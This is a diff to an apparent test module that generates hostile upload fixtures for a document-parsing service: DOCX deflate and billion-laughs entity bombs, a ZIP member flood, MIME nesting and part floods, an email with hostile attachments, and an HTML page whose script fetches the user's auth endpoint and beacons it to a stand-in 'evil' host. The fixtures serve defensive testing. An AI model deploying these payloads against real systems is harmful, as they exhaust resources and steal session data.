@@ -185,6 +185,68 @@ def text_bomb_lines() -> bytes:
     return (b"ANSWER DUE " + b"a" * (2 << 20) + b"\n")
 
 
+def docx_deflate_bomb() -> bytes:
+    """A Word file whose body inflates to 200 MB (about 200 KB on disk)."""
+    from tests.documents import samples
+    return samples.docx([], xml="<w:document>" + "0" * (200 << 20) + "</w:document>")
+
+
+def docx_entity_bomb() -> bytes:
+    """A Word body with a billion-laughs DTD."""
+    from tests.documents import samples
+    lol = ('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
+           + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
+           + f']><w:document xmlns:w="{samples.W_NS}"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body>'
+           "</w:document>")
+    return samples.docx([], xml=lol)
+
+
+def docx_member_flood() -> bytes:
+    from tests.documents import samples
+    return samples.docx(["x"], members={f"word/media/{i}.bin": b"" for i in range(6000)},
+                        compression=zipfile.ZIP_STORED)
+
+
+def _eml_head(subject: bytes) -> bytes:
+    return b"From: a@example.org\r\nTo: b@example.org\r\nSubject: " + subject + b"\r\nMIME-Version: 1.0\r\n"
+
+
+def eml_nesting_bomb(depth: int = 2000) -> bytes:
+    """multipart inside multipart, 2000 deep."""
+    body = b"Content-Type: text/plain\r\n\r\nbottom\r\n"
+    for i in range(depth):
+        body = (f"Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n".encode() + body
+                + f"\r\n--b{i}--\r\n".encode())
+    return _eml_head(b"nested") + body
+
+
+def eml_part_flood(parts: int = 20_000) -> bytes:
+    return (_eml_head(b"parts") + b"Content-Type: multipart/mixed; boundary=zz\r\n\r\n"
+            + b"--zz\r\nContent-Type: text/plain\r\n\r\nx\r\n" * parts + b"--zz--\r\n")
+
+
+def eml_hostile_attachments() -> bytes:
+    """A message carrying a pixel flood, a polyglot, a Word bomb and a message inside a message
+    inside a message: the message is read; each attachment meets the guards of its own type, and
+    an attached message is not split again."""
+    from tests.documents import samples
+    inner = samples.nef_email(attachments=[("deeper.eml", "message/rfc822", samples.nef_email())])
+    return samples.nef_email(attachments=[
+        ("flood.png", "image/png", png_pixel_flood(99_999, 99_999)),  # not the same bytes as the upload above
+        ("polyglot.pdf", "application/pdf", polyglot_exe_pdf()),
+        ("bomb.docx", "application/octet-stream", docx_deflate_bomb()),
+        ("forwarded.eml", "message/rfc822", inner)])
+
+
+def html_hostile_page() -> bytes:
+    """A web page full of active content: read as text, nothing in it runs, served only as a download."""
+    return (b"<!DOCTYPE html><html><head><meta http-equiv='refresh' content='0;url=https://evil.example/'>"
+            b"<script>fetch('/api/v1/auth/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil',t))</script>"
+            b"<base href='https://evil.example/'></head><body onload='alert(1)'><iframe src='javascript:alert(2)'>"
+            b"</iframe><p>NOTICE OF HEARING</p><svg><script>alert(3)</script></svg>"
+            + b"<div>" * 20_000 + b"</body></html>")
+
+
 GENERATED = {
     "javascript_actions.pdf": pdf_with_javascript,
     "deep_arrays.pdf": pdf_deep_arrays,
@@ -205,6 +267,13 @@ GENERATED = {
     "html_as_text.txt": html_as_text,
     "zip_bomb.zip": zip_bomb,
     "one_huge_line.txt": text_bomb_lines,
+    "deflate_bomb.docx": docx_deflate_bomb,
+    "entity_bomb.docx": docx_entity_bomb,
+    "member_flood.docx": docx_member_flood,
+    "nesting_bomb.eml": eml_nesting_bomb,
+    "part_flood.eml": eml_part_flood,
+    "hostile_attachments.eml": eml_hostile_attachments,
+    "active_content.html": html_hostile_page,
 }
 
 # Uploads these must refuse outright (415), whatever their name.
